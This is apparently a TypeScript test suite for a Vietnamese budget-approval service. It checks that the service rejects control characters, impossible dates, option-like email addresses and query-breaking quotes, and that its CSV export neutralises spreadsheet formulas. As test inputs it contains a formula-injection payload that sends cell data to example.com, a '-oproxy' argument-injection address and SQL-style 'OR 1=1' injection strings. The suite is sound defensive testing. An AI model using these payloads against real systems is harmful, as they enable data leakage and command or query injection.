/**
 * Text and dates that would break the documents: control characters, lone surrogates and noncharacters are
 * refused in every text field with a 400 naming it; impossible calendar dates are refused; CSV exports never
 * hand a spreadsheet a formula; recipient addresses cannot start like a command-line option.
 */
import { quoteValue } from '../workflows/common/visibility-query';
import request from 'supertest';
import { parseCsv, toCsv } from '../audit/csv';
import { verifyExport } from '../audit/export-format';
import { budgetWorkflowId } from '../workflows/budget/messages';
import { hasForbiddenCharacter } from '../workflows/common/schema';
import { militaryEstimate } from './support/api';
import { budgetApi, recordedUpdates } from './support/budget-api';
import { useService } from './support/service';

const service = useService('text-and-dates');
const STAFF = 'quan-bchqs';

/** The fields a 400 named. */
const fieldsOf = (body: { errors?: Array<{ field: string }> }): string[] => (body.errors ?? []).map((e) => e.field);

test('the shared rule: controls, lone surrogates and U+FFFE/FFFF are forbidden; tab and line breaks only in multi-line text', () => {
  for (const bad of ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085', '\u009f', '\ud800', '\udfff', '\ufffe', '\uffff']) {
    expect([bad, hasForbiddenCharacter(`a${bad}b`, true)]).toEqual([bad, true]);
  }
  expect(hasForbiddenCharacter('dòng 1\ndòng 2\r\n\tthụt lề', true)).toBe(false);
  expect(hasForbiddenCharacter('dòng 1\ndòng 2', false)).toBe(true);
  expect(hasForbiddenCharacter('Băng rôn 🎌 "Điện Biên Phủ" – 70 năm', false)).toBe(false);
});

test('an estimate with a control character, a lone surrogate or U+FFFF in any text is 400 naming each field; nothing starts', async () => {
  const auth = await service.api.bearer(STAFF);
  const line = militaryEstimate.lines[0]!;
  const res = await request(service.api.app)
    .post('/api/v1/budgets')
    .set('Authorization', auth)
    .send({
      ...militaryEstimate,
      title: 'Dự toán\u0000 kỷ niệm',
      note: 'Ghi chú \ud800 cắt đôi',
      lines: [{ ...line, description: 'Băng rôn\u0085' }, { ...line, unit: 'chiếc\uffff' }],
    });
  expect(res.status).toBe(400);
  expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
  expect(fieldsOf(res.body).sort()).toEqual(['body.lines.0.description', 'body.lines.1.unit', 'body.note', 'body.title']);
  expect(JSON.stringify(res.body.errors)).toContain('U+0000');
  const { count } = await service.client.workflow.count(`TaskQueue = '${service.taskQueue}' AND WorkflowType = 'budgetEstimateWorkflow'`);
  expect(count).toBe(0);

  // Line breaks and tabs are fine where text is multi-line, not in a title.
  const multiLine = await request(service.api.app).post('/api/v1/budgets').set('Authorization', auth).send({ ...militaryEstimate, note: 'Dòng 1\r\nDòng 2\n\tchi tiết' });
  expect(multiLine.status).toBe(201);
  const titled = await request(service.api.app).post('/api/v1/budgets').set('Authorization', auth).send({ ...militaryEstimate, title: 'Dự toán\nhai dòng' });
  expect(titled.status).toBe(400);
  expect(fieldsOf(titled.body)).toEqual(['body.title']);
});

test('a decision dated 2024-13-45 or 2025-02-29 is 400 naming decisionDate, and is not recorded', async () => {
  const budgets = budgetApi(service.api);
  const estimate = await budgets.submit();
  expect((await budgets.appraiseAll(estimate)).status).toBe(200);
  const before = await recordedUpdates(service.client, estimate.id);
  for (const decisionDate of ['2024-13-45', '2025-02-29', '2024-04-31']) {
    const res = await budgets.act(estimate.id, 'approve', 'thep-dt', { amount: 1_000_000, decisionNumber: '12/QĐ-UBND', decisionDate });
    expect([decisionDate, res.status, fieldsOf(res.body)]).toEqual([decisionDate, 400, ['body.decisionDate']]);
  }
  expect(await recordedUpdates(service.client, estimate.id)).toBe(before);
  const ok = await budgets.act(estimate.id, 'approve', 'thep-dt', { amount: 1_000_000, decisionNumber: '12/QĐ-UBND', decisionDate: '2024-02-29' });
  expect(ok.status).toBe(200);
});

test('the CSV export guards cells that a spreadsheet would run as formulas, and still verifies', async () => {
  const budgets = budgetApi(service.api);
  const formula = '=HYPERLINK("http://example.com/?x="&A1,"Xem")';
  const estimate = await budgets.submit(STAFF, { ...militaryEstimate, title: formula });
  const csv = await request(service.api.app)
    .get(`/api/v1/audit/workflows/${budgetWorkflowId(estimate.id)}/timeline.csv`)
    .set('Authorization', await service.api.bearer('thanh-tt'))
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });
  expect(csv.status).toBe(200);
  const text = csv.body as string;
  // No cell, quoted or not, starts with = + - @ as written in the file.
  const rawCells = text.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
  const dangerous = rawCells.map((c) => (c.startsWith('"') ? c.slice(1) : c)).filter((c) => /^[=+\-@\t\r]/.test(c));
  expect(dangerous).toEqual([]);
  // Read back, the cells are what the service recorded, and the digest chain holds.
  expect(parseCsv(text).some((row) => row.some((cell) => cell.includes(formula)))).toBe(true);
  expect(verifyExport(text)).toMatchObject({ ok: true });
});

test('the CSV writer guards every formula-like cell and reads it back unchanged', () => {
  const values = ['=1+1', '+84 912', '-5', '@SUM(A1)', '\tthụt', '\rx', "'=đã có dấu nháy", "''-hai dấu", "'bình thường", 'bình thường', '#bac-son-audit'];
  const text = toCsv([values]);
  const written = text.slice(1).replace(/\r\n$/, '');
  expect(written).toBe(`'=1+1,'+84 912,'-5,'@SUM(A1),'\tthụt,"'\rx",''=đã có dấu nháy,'''-hai dấu,'bình thường,bình thường,#bac-son-audit`);
  expect(parseCsv(text)).toEqual([values]);
});

test('an extra recipient address that starts with + or - is refused', async () => {
  const auth = await service.api.bearer('lan-vp');
  for (const address of ['-oproxy@bacson.gov.vn', '+x@bacson.gov.vn']) {
    const res = await request(service.api.app).put('/api/v1/agencies/vhtt/mail-routing').set('Authorization', auth).send({ extraEmails: [address], outsideDomainsApproved: true });
    expect([address, res.status, [...new Set(fieldsOf(res.body))]]).toEqual([address, 400, ['body.extraEmails.0']]);
    expect(JSON.stringify(res.body.errors)).toContain('không được bắt đầu bằng + hoặc -');
  }
});

test('a value in a visibility query cannot end its string: quotes and backslashes are dropped', () => {
  expect(quoteValue("bchqs' OR WorkflowType = 'x")).toBe("'bchqs OR WorkflowType = x'");
  expect(quoteValue('bchqs\\\' OR 1=1')).toBe("'bchqs OR 1=1'");
});
